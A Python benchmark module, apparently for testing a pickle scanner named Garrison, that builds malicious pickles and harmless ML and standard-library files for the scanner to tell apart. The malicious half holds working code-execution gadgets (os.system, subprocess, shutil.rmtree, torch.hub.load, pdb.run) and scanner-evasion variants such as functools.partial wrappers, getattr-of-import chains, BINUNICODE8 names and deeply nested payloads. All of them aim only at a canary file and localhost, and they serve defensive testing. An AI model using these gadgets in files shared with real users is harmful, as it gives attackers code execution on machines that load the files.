"""Samples written for this benchmark only, not taken from Garrison's test suite (group ``independent``).

The rest of the corpus comes from the generators Garrison's own tests use, so Garrison was built to
pass it. These files probe both directions from outside that set:

* malicious: pickles that reach code execution, file or network access through callables the shared
  generator does not use (``functools.partial``, ``getattr`` on an imported module, ``_thread``,
  ``numpy.load``, ``torch.hub``, ``pdb.run``, ...), and ``os.system`` pickled by the real
  pickler at every protocol. Payloads would at most touch the canary path; nothing here loads them.
* benign: standard-library objects, NumPy dtypes and scalars, more scikit-learn estimators, and
  torch checkpoints (optimizer state, quantized and sparse tensors, whole modules) a scanner must
  not flag.

Needs Garrison's dev venv (torch, scikit-learn, joblib, numpy, scipy).
"""

from __future__ import annotations

import collections
import datetime
import decimal
import fractions
import io
import ipaddress
import os
import pathlib
import pickle
import types
import uuid
import warnings
from pathlib import Path
from typing import Any

TOUCH_PREFIX = "touch "


def malicious(canary: Path) -> list[tuple[str, bytes, str]]:
    """``(name, pickle bytes, notes)`` for each extra malicious pickle."""
    from tests.supplychain.malicious import (
        EMPTY_TUPLE,
        MARK,
        REDUCE,
        STACK_GLOBAL,
        STOP,
        TUPLE,
        call,
        const,
        g0,
        p4,
        sg,
        su,
    )

    touch = TOUCH_PREFIX + str(canary)
    c = str(canary)
    code = f"open({c!r}, 'w').close()"

    def gadget(module: str, name: str, *args: object) -> bytes:
        return p4(call(sg(module, name), *args))

    out: list[tuple[str, bytes, str]] = []
    plain: list[tuple[str, str, tuple[object, ...]]] = [
        ("os", "popen", (touch,)),
        ("os", "execv", ("/usr/bin/touch", ["touch", c])),
        ("os", "spawnlp", (0, "touch", "touch", c)),
        ("os", "putenv", ("LD_PRELOAD", c)),
        ("nt", "system", (touch,)),
        ("subprocess", "check_output", (["touch", c],)),
        ("subprocess", "getoutput", (touch,)),
        ("subprocess", "run", (["touch", c],)),
        ("builtins", "open", (c, "w")),
        ("builtins", "__import__", ("os",)),
        ("importlib", "__import__", ("os",)),
        ("shutil", "rmtree", (c,)),
        ("shutil", "move", (c, c + ".moved")),
        ("socket", "create_connection", (("127.0.0.1", 9),)),
        ("requests.api", "get", ("http://127.0.0.1:9/x",)),
        ("pdb", "run", (code,)),
        ("numpy", "load", (c, None, True)),
        ("joblib", "load", (c,)),
        ("_pickle", "loads", (b"N.",)),
        ("torch.hub", "load", ("127.0.0.1/x", "m")),
        ("torch.hub", "load_state_dict_from_url", ("http://127.0.0.1:9/x",)),
        ("venv", "create", (c,)),
        ("os", "remove", (c,)),
        ("sys", "exit", (0,)),
    ]
    for module, name, args in plain:
        out.append((f"extra-{module}-{name}".replace(".", "-").replace("_", ""), gadget(module, name, *args),
                    f"calls {module}.{name}"))  # fmt: skip
    getattr_import = p4(
        sg("builtins", "getattr") + MARK + call(sg("builtins", "__import__"), "os") + su("system") + TUPLE
        + REDUCE + const((touch,)) + REDUCE
    )  # fmt: skip
    out.append(("extra-getattr-of-import", getattr_import, "getattr(__import__('os'), 'system')(...)"))
    partial = p4(sg("functools", "partial") + MARK + sg("os", "system") + su(touch) + TUPLE + REDUCE
                 + EMPTY_TUPLE + REDUCE)  # fmt: skip
    out.append(("extra-functools-partial", partial, "functools.partial(os.system, ...)()"))
    thread = p4(
        sg("_thread", "start_new_thread") + MARK + sg("os", "system") + const((touch,)) + TUPLE + REDUCE
    )
    out.append(("extra-thread-start-new-thread", thread, "_thread.start_new_thread(os.system, (...))"))
    getitem = p4(
        sg("_operator", "getitem") + MARK + sg("sys", "modules") + su("os") + TUPLE + REDUCE + b"0" + b"N"
    )
    out.append(("extra-getitem-sys-modules", getitem, "operator.getitem(sys.modules, 'os')"))
    binunicode8 = (
        b"\x80\x04"
        + b"\x8d" + len(b"posix").to_bytes(8, "little") + b"posix"
        + b"X" + len(b"system").to_bytes(4, "little") + b"system"
        + STACK_GLOBAL + const((touch,)) + REDUCE + STOP
    )  # fmt: skip
    out.append(("extra-binunicode8-names", binunicode8, "module and name as BINUNICODE8/BINUNICODE"))
    proto1 = g0("os", "system") + b"(" + b"X" + len(touch).to_bytes(4, "little") + touch.encode() + b"tR."
    out.append(("extra-protocol-1-binary-strings", proto1, "protocol 1 opcodes with GLOBAL"))

    class Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return os.system, (touch,)

    for protocol in range(6):
        data = pickle.dumps(Payload(), protocol=protocol)
        out.append(
            (f"extra-real-pickler-os-system-p{protocol}", data, "pickle.dumps of an os.system reducer")
        )
    nested = {"model": {"weights": list(range(100)), "config": {"hook": Payload()}}}
    out.append(("extra-payload-deep-in-dict", pickle.dumps(nested, protocol=4), "payload nested in a dict"))
    return out


def benign(scratch: Path) -> list[tuple[str, bytes, str]]:
    """``(file name with extension, bytes, notes)`` for each extra benign file."""
    import joblib
    import numpy as np
    import torch

    out: list[tuple[str, bytes, str]] = []
    stdlib: dict[str, Any] = {
        "counter": collections.Counter("abracadabra"),
        "deque": collections.deque([1, 2, 3], maxlen=5),
        "defaultdict": collections.defaultdict(list, {"a": [1]}),
        "date": datetime.date(2024, 5, 1),
        "time": datetime.time(12, 30),
        "timedelta": datetime.timedelta(days=2),
        "naive-datetime": datetime.datetime(2024, 1, 1, 12),  # noqa: DTZ001
        "fraction": fractions.Fraction(3, 7),
        "decimal": decimal.Decimal("2.50"),
        "uuid": uuid.UUID(int=7),
        "path": pathlib.PurePosixPath("/data/train.csv"),
        "range": range(3, 30, 3),
        "slice": slice(1, 9, 2),
        "namespace": types.SimpleNamespace(lr=0.01, epochs=3),
        "ip": ipaddress.ip_address("10.0.0.1"),
        "complex": complex(0, 1),
    }
    for label, value in stdlib.items():
        for proto in (2, 4):
            out.append(
                (f"stdlib-{label}-p{proto}.pkl", pickle.dumps(value, protocol=proto), "standard library")
            )
    arrays = {
        "f16": np.linspace(0, 1, 8, dtype=np.float16),
        "c128": np.array([1 + 2j, 3 - 1j]),
        "bool": np.array([True, False]),
        "dt64": np.array(["2024-01-01", "2024-06-30"], dtype="datetime64[D]"),
        "td64": np.array([1, 2], dtype="timedelta64[s]"),
        "unicode": np.array(["alpha", "beta"]),
        "bytes": np.array([b"a", b"bc"]),
        "record": np.rec.array([(1, 2.0)], dtype=[("i", "i4"), ("f", "f8")]),
        "masked": np.ma.array([1, 2, 3], mask=[0, 1, 0]),
        "scalar-f64": np.float64(1.5),
        "scalar-i8": np.int8(3),
        "dtype": np.dtype("float32"),
        "generator": np.random.default_rng(0),
    }
    for label, value in arrays.items():
        out.append((f"numpy-{label}-p4.pkl", pickle.dumps(value, protocol=4), "NumPy object"))
    np.save(scratch / "f16.npy", arrays["f16"])
    out.append(("numpy-float16.npy", (scratch / "f16.npy").read_bytes(), "plain .npy"))
    np.save(scratch / "dt.npy", arrays["dt64"])
    out.append(("numpy-datetime64.npy", (scratch / "dt.npy").read_bytes(), "plain .npy"))
    for name, model in _estimators():
        out.append((f"sklearn-{name}-p5.pkl", pickle.dumps(model, protocol=5), "scikit-learn estimator"))
        joblib.dump(model, scratch / f"{name}.joblib", compress=3)
        out.append(
            (f"sklearn-{name}.joblib", (scratch / f"{name}.joblib").read_bytes(), "joblib, zlib level 3")
        )
    out.extend(_torch_files(torch))
    return out


def _estimators() -> list[tuple[str, object]]:
    import numpy as np
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.ensemble import IsolationForest, VotingClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import LabelEncoder
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(1)
    x = rng.random((40, 3))
    y = (x[:, 1] > 0.5).astype(int)
    text = ["good model", "bad model", "fine weights", "odd weights"] * 3
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return [
            ("decision-tree", DecisionTreeClassifier(max_depth=3).fit(x, y)),
            ("isolation-forest", IsolationForest(n_estimators=3, random_state=0).fit(x)),
            ("mlp", MLPClassifier(hidden_layer_sizes=(4,), max_iter=20).fit(x, y)),
            ("ridge", Ridge().fit(x, y)),
            ("gaussian-nb", GaussianNB().fit(x, y)),
            ("imputer", SimpleImputer().fit(x)),
            ("label-encoder", LabelEncoder().fit(["a", "b", "c"])),
            (
                "tfidf-logreg",
                make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(text, [0, 1, 0, 1] * 3),
            ),
            ("calibrated", CalibratedClassifierCV(LogisticRegression(), cv=2).fit(x, y)),
            ("voting", VotingClassifier([("a", LogisticRegression()), ("b", GaussianNB())]).fit(x, y)),
        ]


def _torch_files(torch: Any) -> list[tuple[str, bytes, str]]:
    def saved(obj: object, legacy: bool = False) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
        return buf.getvalue()

    warnings.simplefilter("ignore")  # torch's deprecation notices (quantized tensors, legacy format)
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Embedding(10, 4), torch.nn.LSTM(4, 4, batch_first=True))
    layer = torch.nn.TransformerEncoderLayer(d_model=8, nhead=2, dim_feedforward=16)
    linear = torch.nn.Linear(4, 2)
    optimizer = torch.optim.Adam(linear.parameters())
    linear(torch.ones(1, 4)).sum().backward()
    optimizer.step()
    dtypes = {
        "bf16": torch.ones(3, dtype=torch.bfloat16),
        "i8": torch.arange(4, dtype=torch.int8),
        "bool": torch.tensor([True, False]),
        "c64": torch.ones(2, dtype=torch.complex64),
        "f16": torch.zeros(2, dtype=torch.float16),
    }
    checkpoint = {
        "epoch": 3,
        "model": linear.state_dict(),
        "optimizer": optimizer.state_dict(),
        "shape": torch.Size([2, 4]),
        "config": {"lr": 1e-3, "betas": (0.9, 0.999), "name": "run-1"},
    }
    quantized = {"q": torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.quint8)}
    sparse = {"s": torch.eye(3).to_sparse()}
    return [
        ("torch-training-checkpoint.pt", saved(checkpoint), "model + Adam state + torch.Size + config"),
        ("torch-training-checkpoint-legacy.pt", saved(checkpoint, legacy=True), "the same, legacy format"),
        ("torch-dtypes.pt", saved(dtypes), "bf16, int8, bool, complex64, float16 tensors"),
        ("torch-quantized.pt", saved(quantized), "quantized tensor"),
        ("torch-sparse.pt", saved(sparse), "sparse COO tensor"),
        ("torch-embedding-lstm-module.pt", saved(net), "whole nn.Module: Embedding + LSTM"),
        ("torch-transformer-layer-module.pt", saved(layer), "whole nn.Module: TransformerEncoderLayer"),
        ("torch-state-dict.bin", saved(net.state_dict()), "state_dict saved as pytorch_model.bin"),
    ]
